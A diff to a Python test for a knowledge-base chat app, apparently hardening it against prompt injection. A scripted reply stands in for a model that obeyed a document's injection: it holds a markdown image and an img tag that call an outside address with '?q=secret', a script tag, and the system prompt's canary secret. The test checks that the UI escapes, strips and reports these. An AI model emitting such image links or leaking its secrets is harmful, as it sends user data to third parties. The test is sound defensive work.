@@ -174,21 +174,27 @@ def test_an_abstention_is_shown_as_such(kb_home: Path, tmp_path: Path) -> None:
     assert not [e for e in at.expander if e.label.startswith("\\[")]
 
 
-def test_markup_and_images_in_an_answer_stay_text(kb_home: Path, tmp_path: Path) -> None:
+def test_an_answer_shows_no_image_no_html_and_no_secret(kb_home: Path, tmp_path: Path) -> None:
+    """Hardening item 18: a model that obeys a document's injection, as the UI shows it."""
     seed(kb_home, tmp_path).close()
     scripted_app.REPLIES[:] = [
         "ifupdown [1] ![x](http://203.0.113.9/?q=secret) <img src=http://203.0.113.9/a.png> "
-        "<script>alert(1)</script> :red[red] $x$"
+        "<script>alert(1)</script> :red[red] $x$ " + scripted_app.SECRET
     ]
     at = open_app(CHAT, script=SCRIPTED)
     at.chat_input[0].set_value("How are network interfaces configured?").run()
     assert not at.exception
-    answer = next(m.value for m in at.markdown if "203\\.0\\.113\\.9" in m.value)
-    assert "\\!\\[x\\]\\(http\\:\\/\\/203\\.0" in answer
-    assert "\\<img" in answer and "\\<script" in answer
+    answer = next(m.value for m in at.markdown if m.value.startswith("ifupdown"))
+    system = str(scripted_app.MODELS[-1].calls[0][0].content)
+    canary = re.findall(r"code: (\w+)\.", system)[0]
+    assert "203" not in markdown(at) and canary not in markdown(at)
+    assert "code\\: \\[…\\]" in answer, "the secret's place is marked"
+    assert "\\<script" in answer and "were removed" in answer
     assert not re.search(r"(?<!\\)[<>\[\]!$]", answer), "every markup character is escaped"
     assert ":red[" not in answer and "\\$x\\$" in answer
     assert all(m.allow_html is False for m in at.markdown)
+    said = " ".join(c.value for c in at.caption)
+    assert "Removed from the answer: the assistant's secret, 1 time(s), 1 HTML tag(s)" in said
 
 
 def test_conversations_reopen_rename_export_and_delete(kb_home: Path, tmp_path: Path) -> None:
@@ -208,7 +214,7 @@ def test_conversations_reopen_rename_export_and_delete(kb_home: Path, tmp_path: 
     chats = build_assistant(load_settings(kb_home)).chats
     assert [s.title for s in chats.sessions()] == ["Interfaces"]
     exported = chats.export_markdown(chats.sessions()[0].session_id)
-    assert exported.startswith("# Interfaces") and "network.md" in exported
+    assert exported.startswith("# Interfaces") and "network\\.md" in exported
     next(b for b in at.sidebar.button if b.label == "Delete conversation").click().run()
     assert not at.exception
     assert build_assistant(load_settings(kb_home)).chats.sessions() == []
